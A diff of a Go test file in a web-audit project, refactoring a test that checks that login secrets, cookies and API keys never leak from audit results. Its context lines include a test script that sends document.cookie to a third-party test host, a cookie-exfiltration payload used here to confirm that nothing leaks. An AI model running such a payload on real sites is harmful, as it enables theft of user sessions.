@@ -19,12 +19,13 @@ import (
 
 	"github.com/openvitals/openvitals/internal/apikey"
 	"github.com/openvitals/openvitals/internal/audit"
-	"github.com/openvitals/openvitals/internal/awstest"
 	"github.com/openvitals/openvitals/internal/deliver"
 	"github.com/openvitals/openvitals/internal/event"
 	"github.com/openvitals/openvitals/internal/model"
 	"github.com/openvitals/openvitals/internal/queue"
 	"github.com/openvitals/openvitals/internal/redact"
+	"github.com/openvitals/openvitals/internal/testing/apitest"
+	"github.com/openvitals/openvitals/internal/testing/awstest"
 )
 
 const viewerKey = "ov_test_viewer_key_for_secrets_0123456789"
@@ -42,21 +43,19 @@ func TestProfileSecretsNeverLeave(t *testing.T) {
 	site := newLoginSite(t)
 	worker, logs := profileWorker(e)
 	ctx := context.Background()
-	if err := apikey.Provision(ctx, e.store, apikey.Grant{Account: "acme", Role: model.RoleViewer, Key: viewerKey}, "test"); err != nil {
-		t.Fatal(err)
-	}
+	apitest.Provision(t, e.store, apikey.Grant{Account: "acme", Role: model.RoleViewer, Key: viewerKey})
 	const wrongPlan = "nope-5ecret-0c9e"
 	secrets := []string{secretHeader, secretCookie, secretBasic, secretPassword, secretPlan, wrongPlan, loginSession,
 		base64.StdEncoding.EncodeToString([]byte("ci:" + secretBasic))}
 
 	var ws struct{ ID string }
-	e.call("POST", "/account/websites", `{"domain":"`+site.host+`","method":"simulated"}`, 201, &ws)
+	e.api.Call(e.t, "POST", "/account/websites", `{"domain":"`+site.host+`","method":"simulated"}`, 201, &ws)
 	var pages []struct{ ID string }
-	e.call("POST", "/"+ws.ID+"/settings/pages", `[{"url":"/private","alias":"Private"},{"url":"/private?plan","alias":"Wrong plan"}]`, 200, &pages)
+	e.api.Call(e.t, "POST", "/"+ws.ID+"/settings/pages", `[{"url":"/private","alias":"Private"},{"url":"/private?plan","alias":"Wrong plan"}]`, 200, &pages)
 	private, wrong := pages[0].ID, pages[1].ID
 	var prof struct{ ID string }
-	e.call("POST", "/"+ws.ID+"/profiles", loginProfile("Signed in", private, secretPassword), 201, &prof)
-	e.call("POST", "/"+ws.ID+"/profiles", loginProfileWith("Wrong plan", wrong, secretPassword, wrongPlan), 201, nil)
+	e.api.Call(e.t, "POST", "/"+ws.ID+"/profiles", loginProfile("Signed in", private, secretPassword), 201, &prof)
+	e.api.Call(e.t, "POST", "/"+ws.ID+"/profiles", loginProfileWith("Wrong plan", wrong, secretPassword, wrongPlan), 201, nil)
 	w, err := e.store.Website(ctx, "acme", ws.ID)
 	if err != nil {
 		t.Fatal(err)
@@ -79,7 +78,7 @@ func TestProfileSecretsNeverLeave(t *testing.T) {
 		t.Fatal("the login with a wrong option passed")
 	}
 	var detail struct{ LastError struct{ Message string } }
-	e.call("GET", "/"+ws.ID+"/pages/"+wrong+"?device=desktop", "", 200, &detail)
+	e.api.Call(e.t, "GET", "/"+ws.ID+"/pages/"+wrong+"?device=desktop", "", 200, &detail)
 	if want := "login step 4 (select #plan) failed: no option has the given value"; detail.LastError.Message != want {
 		t.Errorf("lastError %q, want %q", detail.LastError.Message, want)
 	}
@@ -88,20 +87,20 @@ func TestProfileSecretsNeverLeave(t *testing.T) {
 	var x struct{ ID string }
 	script := `new Image().src='http://` + site.thirdParty + `/exfil?c='+encodeURIComponent(document.cookie)+'&n=1'`
 	body, _ := json.Marshal(map[string]any{"page": private, "device": "desktop", "changes": map[string]any{"script": script}})
-	e.call("POST", "/"+ws.ID+"/experiments", string(body), 202, &x)
+	e.api.Call(e.t, "POST", "/"+ws.ID+"/experiments", string(body), 202, &x)
 	if err := worker.Audit(ctx, audit.Job{Account: "acme", Website: ws.ID, Page: private, Device: "desktop", Queued: time.Now().UTC(), Experiment: x.ID}, 1); err != nil {
 		t.Fatal(err)
 	}
 	// A test series of the private page, its job as the API queued it.
 	awstest.Receive(t, e.queue, 1) // the experiment's job, which the test ran itself
 	var series seriesDoc
-	e.call("POST", "/"+ws.ID+"/testseries", `{"pages":[{"page_id":"`+private+`","device":"desktop"}],"initiator":"CLI"}`, 201, &series)
+	e.api.Call(e.t, "POST", "/"+ws.ID+"/testseries", `{"pages":[{"page_id":"`+private+`","device":"desktop"}],"initiator":"CLI"}`, 201, &series)
 	for _, job := range queuedJobs(t, e, 1) {
 		if err := worker.Audit(ctx, job, 1); err != nil {
 			t.Fatal(err)
 		}
 	}
-	e.call("GET", "/"+ws.ID+"/testseries/"+series.ID, "", 200, &series)
+	e.api.Call(e.t, "GET", "/"+ws.ID+"/testseries/"+series.ID, "", 200, &series)
 	if series.Status != "completed" {
 		t.Fatalf("series %+v, want completed", series)
 	}
@@ -147,12 +146,12 @@ func TestProfileSecretsNeverLeave(t *testing.T) {
 	}
 	var har []byte
 	for _, path := range paths {
-		for key, out := range map[string]*bytes.Buffer{adminKey: &admin, viewerKey: &viewer} {
+		for key, out := range map[string]*bytes.Buffer{apitest.AdminKey: &admin, viewerKey: &viewer} {
 			req := httptest.NewRequest("GET", path, nil)
 			req.Header.Set("Authorization", "Bearer "+key)
 			req.Header.Set("Accept-Encoding", "identity")
 			rec := httptest.NewRecorder()
-			e.handler.ServeHTTP(rec, req)
+			e.api.Handler.ServeHTTP(rec, req)
 			if rec.Code >= 500 {
 				t.Errorf("GET %s: %d", path, rec.Code)
 			}
